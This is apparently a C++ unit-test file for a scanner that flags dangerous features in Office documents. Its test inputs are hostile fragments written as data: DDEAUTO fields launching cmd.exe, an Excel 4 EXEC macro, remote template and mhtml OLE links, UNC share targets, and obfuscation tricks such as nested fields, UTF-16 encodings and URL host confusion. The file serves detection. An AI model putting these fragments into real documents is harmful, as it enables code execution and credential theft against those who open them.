// Office documents as archives of XML: what they load, run and show.
#include <string>
#include <vector>

#include "tests/inspect/look.h"
#include "tests/inspect/zip_writer.h"

#include <CppUTest/TestHarness.h>

using inspect::Mark;
using inspect::Report;
using looking::what;
using zip_writer::Member;

namespace {

const std::string xml = "<?xml version=\"1.0\"?>";

std::string document(const std::vector<Member>& parts)
{
    std::vector<Member> all { { "[Content_Types].xml", xml + "<Types/>" } };
    all.insert(all.end(), parts.begin(), parts.end());
    return zip_writer::write(all);
}

Report look(const std::string& path, const std::string& content)
{
    return looking::look("a.docx", "", document({ { path, xml + content } }));
}

Report related(const std::string& type, const std::string& target)
{
    return look("word/_rels/settings.xml.rels",
        "<Relationships><Relationship Id=\"r1\" Type=\"http://x.example/relationships/" + type
            + "\" Target=\"" + target + "\" TargetMode=\"External\"/></Relationships>");
}

Report paragraph(const std::string& runs)
{
    return look(
        "word/document.xml", "<w:document><w:body><w:p>" + runs + "</w:p></w:body></w:document>");
}

std::string code(const std::string& text)
{
    return "<w:r><w:instrText xml:space=\"preserve\">" + text + "</w:instrText></w:r>";
}

bool is_quiet(const Report& r)
{
    return r.marks.empty() && !r.incomplete;
}

} // namespace

TEST_GROUP(Ooxml) {};

TEST(Ooxml, TextIsShown)
{
    STRCMP_EQUAL("Enable & read\nmore\n\n",
        look("word/document.xml",
            "<w:document><w:p><w:r><w:t>Enable</w:t></w:r><w:r><w:t> &amp; read</w:t></w:r></w:p>"
            "<w:p><w:r><w:t>more</w:t><w:delText>gone</w:delText></w:r></w:p></w:document>")
            .text.c_str());
    CHECK_TRUE(
        look("xl/sharedStrings.xml", "<sst><si><t>cells</t></si></sst>").text.starts_with("cells"));
    CHECK_TRUE(
        look("ppt/slides/slide1.xml", "<p:sld><a:p><a:r><a:t>slide</a:t></a:r></a:p></p:sld>")
            .text.starts_with("slide"));
}

TEST(Ooxml, TemplatesFromElsewhere)
{
    STRCMP_EQUAL("attachedtemplate from https://a.example/t.dotm",
        what(related("attachedTemplate", "https://a.example/t.dotm"), Mark::External).c_str());
    CHECK_TRUE(related("frame", "http://a.example/f").has(Mark::External));
    CHECK_TRUE(related("oleObject", "file:///\\\\10.1.2.3\\x\\o").has(Mark::External));
    CHECK_TRUE(is_quiet(related("attachedTemplate", "file:///C:\\Users\\ann\\Normal.dotm")));
    CHECK_TRUE(is_quiet(related("attachedTemplate", "file:///\\\\office\\templates\\letter.dotx")));
    CHECK_TRUE(is_quiet(related("attachedTemplate", "https://firm.sharepoint.com/letter.dotx")));
    CHECK_TRUE(is_quiet(related("attachedTemplate", "http://intranet/letter.dotx")));
    CHECK_TRUE(related("attachedTemplate", "http://3221225985/t").has(Mark::External));
    CHECK_TRUE(is_quiet(related("image", "https://a.example/logo.png")));
}

TEST(Ooxml, ObjectsThatOnlyAttacksHave)
{
    CHECK_TRUE(related("oleObject", "mhtml:http://a.example/x!x-usc:http://a.example/x")
                   .has(Mark::Exploit));
    CHECK_TRUE(related("oleObject", "https://a.example/index.html!").has(Mark::Exploit));
    const auto control = [](const char* id) {
        return look(
            "word/activeX/activeX1.xml", std::string("<ax:ocx ax:classid=\"{") + id + "}\"/>");
    };
    CHECK_TRUE(control("8856F961-340A-11D0-A96B-00C04FD705A2").has(Mark::Exploit));
    CHECK_TRUE(is_quiet(control("D7053240-CE69-11CD-A777-00DD01143C57"))); // a button
}

TEST(Ooxml, Hyperlinks)
{
    CHECK_TRUE(looking::links_to(related("hyperlink", "https://a.example/x"), "a.example"));
    CHECK_TRUE(looking::links_to(
        paragraph(code("HYPERLINK &quot;https://b.ex") + code("ample/&quot;")), "b.example"));
    CHECK_TRUE(
        looking::links_to(look("xl/worksheets/sheet1.xml",
                              "<row><c><f>HYPERLINK(\"https://c.example/\",\"x\")</f></c></row>"),
            "c.example"));
    CHECK_TRUE(is_quiet(related("hyperlink", "https://a.example/x")));
}

TEST(Ooxml, DataExchange)
{
    CHECK_TRUE(
        paragraph(code("DDEAU") + code("TO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k x&quot;"))
            .has(Mark::Exploit));
    CHECK_TRUE(
        paragraph("<w:fldSimple w:instr=\"DDEAUTO excel sheet cell\"/>").has(Mark::External));
    CHECK_TRUE(
        is_quiet(paragraph(code("PAGE") + "<w:fldSimple w:instr=\"DDE excel sheet cell\"/>")));
    const auto linked = [](const char* service) {
        return look("xl/externalLinks/externalLink1.xml",
            std::string("<externalLink><ddeLink ddeService=\"") + service
                + "\" ddeTopic=\"x\"/></externalLink>");
    };
    CHECK_TRUE(linked("cmd").has(Mark::Exploit));
    CHECK_TRUE(is_quiet(linked("BLP"))); // prices of shares
    CHECK_TRUE(is_quiet(paragraph("<w:delInstrText>DDEAUTO cmd</w:delInstrText>")));
}

TEST(Ooxml, MacrosOfExcel4)
{
    const auto sheet = [](const char* formula) {
        return look("xl/macrosheets/sheet1.xml",
            std::string("<xm:macrosheet><row><c><f>") + formula + "</f></c></row></xm:macrosheet>");
    };
    CHECK_TRUE(sheet("EXEC(\"cmd /c x\")").has(Mark::MacroRuns));
    CHECK_TRUE(sheet("A1+1").has(Mark::Macro));
    CHECK_FALSE(sheet("A1+1").has(Mark::MacroRuns));
    CHECK_TRUE(look("xl/workbook.xml",
        "<workbook><definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">x</definedName></workbook>")
                   .has(Mark::Macro));
    CHECK_TRUE(is_quiet(look("xl/workbook.xml",
        "<workbook><definedName name=\"_xlnm.Print_Area\">x</definedName></workbook>")));
}

TEST(Ooxml, SlidesThatStartPrograms)
{
    const auto slide = [](const char* action) {
        return look("ppt/slides/slide1.xml",
            std::string("<p:sld><a:hlinkMouseOver r:id=\"r1\" action=\"") + action
                + "\"/></p:sld>");
    };
    CHECK_TRUE(slide("ppaction://program").has(Mark::External));
    CHECK_TRUE(is_quiet(slide("ppaction://hlinkshowjump?jump=nextslide")));
}

TEST(Ooxml, PartsInUtf16)
{
    std::string wide = "\xFF\xFE";
    for (const char c : std::string("<w:p><w:t>wide text</w:t></w:p>")) {
        wide += c;
        wide += '\0';
    }
    const Report r = looking::look("a.docx", "", document({ { "word/document.xml", wide } }));
    CHECK_TRUE(r.text.starts_with("wide text"));
}

TEST(Ooxml, PartsUnderAnyName)
{
    const std::string rels
        = "<Relationships><Relationship Type=\"x/attachedTemplate\" "
          "Target=\"https://a.example/t\" TargetMode=\"External\"/></Relationships>";
    for (const char* path : { "/word/_rels/settings.xml.rels", "word\\_rels\\settings.xml.rels",
             "WORD/_RELS/SETTINGS.XML.RELS", "x/_rels/%73.xml.rels", "x/_rels/y.dat.rels" })
        CHECK_TRUE(look(path, rels).has(Mark::External));
    CHECK_TRUE(look("x/part.dat", "<xm:macrosheet/>").has(Mark::Macro));
    CHECK_TRUE(look("x/y.html",
        "<document xmlns=\"http://schemas.openxmlformats.org/x\"><p><fldSimple instr=\"DDEAUTO "
        "cmd x\"/></p></document>")
                   .has(Mark::Exploit));
    CHECK_TRUE(look("x/part.dat", "<!-- %PDF-1 --><p><fldSimple instr='DDEAUTO cmd x'/></p>")
                   .has(Mark::Exploit));
    CHECK_TRUE(is_quiet(look("x/part.dat", "<worksheet/>")));
    CHECK_TRUE(look("word/chunk.html", "<html><body>x</body></html>").has(Mark::HtmlFile));
}

TEST(Ooxml, FieldsInFields)
{
    const auto part = [](const char* type) {
        return std::string("<w:r><w:fldChar w:fldCharType='") + type + "'/></w:r>";
    };
    const auto field = [&](const std::string& inner) {
        return part("begin") + inner + part("separate") + "<w:t>x</w:t>" + part("end");
    };
    const auto end = std::string("</w:p><w:p>");
    const std::string quoted = field(code("QUOTE 99 0x6d 100"));
    CHECK_TRUE(paragraph(field(code("DDEAUTO ") + quoted)).has(Mark::Exploit));
    CHECK_TRUE(
        paragraph(field(field(code("QUOTE 68 68 69 65")) + code("UTO cmd"))).has(Mark::Exploit));
    CHECK_TRUE(paragraph(
        field(code("SET c &quot;cmd&quot;")) + end + field(code("DDEAUTO ") + field(code("REF c"))))
                   .has(Mark::Exploit));
    CHECK_TRUE(paragraph(field(code("DDE") + end + code("AUTO cmd x"))).has(Mark::Exploit));
    CHECK_TRUE(paragraph(code("PAGE ") + field(code("DDEAUTO cmd x"))).has(Mark::Exploit));
    CHECK_TRUE(is_quiet(paragraph(field(code("IF ") + quoted + code("= 1")))));
    CHECK_TRUE(is_quiet(paragraph(field(code("PAGE")) + "<w:t>DDEAUTO cmd</w:t>")));
    std::string deep;
    for (int i = 0; i < 5000; ++i)
        deep += part("begin");
    CHECK_TRUE(paragraph(deep + code("DDEAUTO cmd x")).has(Mark::Exploit));
}

TEST(Ooxml, ContentTypes)
{
    const auto typed = [](const char* file, const std::string& type) {
        return looking::look(file, "",
            zip_writer::write({ { "[Content_Types].xml",
                xml + "<Types><Override PartName=\"/a\" ContentType=\"application/vnd." + type
                    + "\"/></Types>" } }));
    };
    const std::string macros = "ms-word.document.macroEnabled.main+xml";
    CHECK_TRUE(typed("a.docx", macros).has(Mark::Macro));
    CHECK_TRUE(is_quiet(typed("a.docm", macros)));
    CHECK_TRUE(is_quiet(typed("a.docx", "x.document.main+xml")));
    CHECK_TRUE(typed("a.xlsb", "ms-excel.macrosheet").has(Mark::Macro));
    CHECK_TRUE(is_quiet(typed("a.xlsb", "ms-excel.worksheet")));
}

TEST(Ooxml, RibbonsThatStartMacros)
{
    CHECK_TRUE(look("customUI/customUI.xml", "<customUI onLoad=\"x.Go\"/>").has(Mark::Macro));
    CHECK_TRUE(is_quiet(look("customUI/customUI.xml", "<customUI/>")));
}

TEST(Ooxml, XmlAsWordReadsIt)
{
    const std::string field
        = "<w:p><w:fldSimple w:instr='&#68;DEAUTO c&#x6D;d &quot;x&quot;'/></w:p>";
    std::string big;
    for (const char c : field)
        big += std::string(1, '\0') + c;
    const std::string little = big.substr(1) + '\0';
    for (const std::string& part : { field, "\xEF\xBB\xBF" + field, "\r\n\t " + field, big, little,
             "\xFE\xFF" + big, "\xFF\xFE" + little, "\xEF\xBB\xBF\n" + field })
        CHECK_TRUE(looking::look("a.docx", "", document({ { "word/document.xml", part } }))
                       .has(Mark::Exploit));
    CHECK_TRUE(
        paragraph("<w:instrText><![CDATA[DDEAUTO cmd x]]></w:instrText>").has(Mark::Exploit));
    CHECK_TRUE(paragraph("<w:t><![CDATA[a < b]]></w:t>").text.starts_with("a < b"));
}

TEST(Ooxml, HostsEndWhereUrlsSay)
{
    const auto loads = [](const char* target) {
        return related("attachedTemplate", target).has(Mark::External);
    };
    for (const char* target : { "https://a.example?x.sharepoint.com/t",
             "https://a.example#.sharepoint.com", "https://x.sharepoint.com@a.example/t",
             "https://a.example\\.sharepoint.com/t", "https://a.example:80/.sharepoint.com",
             "https:a.example/t", "https://intranet@a.example/t", "https://a%2Eexample/t" })
        CHECK_TRUE(loads(target));
    CHECK_FALSE(loads("https://firm.sharepoint.com:443/t"));
    CHECK_FALSE(loads("https://firm.sharepoint.com?x=https://a.example"));
}

TEST(Ooxml, Shares)
{
    const auto loads
        = [](const char* target) { return related("oleObject", target).has(Mark::External); };
    for (const char* target : { "\\\\a.example\\s\\t", "file://a.example/s/t",
             "FILE:////a.example/s", "file:///%5C%5Ca.example%5Cs", "\\\\?\\UNC\\a.example\\s",
             "\\\\a.example@SSL\\s\\t", "\\\\a@80\\s", "//192.0.2.1/s" })
        CHECK_TRUE(loads(target));
    for (const char* target : { "\\\\files\\s\\t", "file://files.firm.local/s/t", "\\\\?\\C:\\t",
             "file:///C|/t", "\\\\files.corp\\s" })
        CHECK_FALSE(loads(target));
}

TEST(Ooxml, DamagedParts)
{
    looking::look_at_damaged("a.docx",
        document(
            { { "word/document.xml", xml + "<w:p>" + code("DDEAUTO x") + "<w:t>text</w:t></w:p>" },
                { "word/_rels/document.xml.rels",
                    xml
                        + "<Relationship Type=\"x/frame\" Target=\"http://a.example\" "
                          "TargetMode=\"External\"/>" } }));
}
